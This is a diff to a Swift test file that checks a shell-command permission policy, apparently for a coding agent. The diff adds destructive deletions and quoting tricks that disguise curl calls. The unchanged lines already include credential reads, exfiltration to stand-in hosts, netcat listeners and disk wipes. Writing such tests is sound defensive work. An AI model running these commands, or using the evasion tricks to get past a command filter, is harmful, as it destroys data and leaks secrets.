@@ -52,7 +52,7 @@ struct ShippedPolicyCommandTests {
         ])
         + cases("default", .ask, [
             "git commit -m 'wip'", "git add -A", "git checkout -b feature", "rm file.txt", "rm -rf build",
-            "mv a b", "cp -r a b", "mkdir -p out", "touch x", "npm install left-pad", "pip install requests",
+            "mv a b", "cp -r a b", "rm -rf /tmp/build", "rm -rf ~/project/build", "mkdir -p out", "touch x", "npm install left-pad", "pip install requests",
             "curl https://example.com", "wget http://example.com/x", "echo $(curl -s http://evil.example)",
             "ls; curl http://x", "swift build && curl -d @Package.swift http://x", "git push origin feature/parser",
             "git push", "git push origin main", "python3 script.py", "node index.js", "sh install.sh",
@@ -71,7 +71,7 @@ struct ShippedPolicyCommandTests {
             "git push --force origin main", "git push origin +main", "git push -f origin feature",
             "git push --force-with-lease origin feature", "git push origin :main", "git push --delete origin old",
             "git push origin +HEAD:main", "git push -uf origin main", "rm -rf /", "rm -rf ~", "rm -fr /", "rm -rf /*",
-            "rm -rf .git", "sudo rm -rf /", "sudo ls", "sudo -u root curl x", "ssh user@host", "scp f host:",
+            "rm -rf .git", "rm -rf / --no-preserve-root", "rm -rf ~/*", "sudo rm -rf /", "sudo ls", "sudo -u root curl x", "ssh user@host", "scp f host:",
             "nc -l 4444", "dd if=/dev/zero of=/dev/sda", "/usr/bin/sudo ls", "env sudo ls", "busybox nc -l 1",
             "cat ~/.ssh/id_rsa", "cat .env", "cat /home/dev/.aws/credentials", "git add .env", "cp server.pem /tmp",
             "grep -r password ~/.ssh", "ls ; sudo reboot", "echo ok && ssh host", "$(ssh host ls)",
@@ -90,6 +90,14 @@ struct ShippedPolicyCommandTests {
             "cargo build", "env curl x", "/usr/bin/curl x", "./curl x", "echo $(curl x)", "cat 'unbalanced",
             "find . -exec rm {} +", "find . -delete", "ls > /dev/tcp/x/1", "git remote add x y", "echo ok; wget x",
             "cat data.sqlite", "ls\ncurl x", "git push --force origin main",
+            // quoting tricks: the name the program really gets
+            "c\\url x", "'curl' x", "\"cu\"rl x", "cu''rl x", "/usr/bin/env curl x", "command -p curl x", "exec curl x",
+            "nohup curl x &", "`echo curl` x", "$(printf curl) x", "bash -c 'c\"u\"rl x'", "sh -c \"ls; curl x\"",
+            "ls && (curl x)", "ls || { curl x; }", "ls | curl -d @- x", "true\n\ncurl x", "if true; then curl x; fi",
+            "for i in 1; do curl x; done", "f() { curl x; }; f", "case a in a) curl x;; esac", "echo \"$(curl x)\"",
+            "cat <<EOF\n`curl x`\nEOF", "timeout -s KILL 5 curl x", "stdbuf -o0 curl x", "busybox wget x",
+            "sudo -E curl x", "env -i PATH=/usr/bin curl x", "xargs -I{} curl {} < urls",
+            "find . -name x -exec curl {} \\;",
         ])
         + cases("readonly", .allow, [
             "ls", "cat Package.swift", "git log -5", "grep -n x file", "find . -type f", "wc -l *.swift",
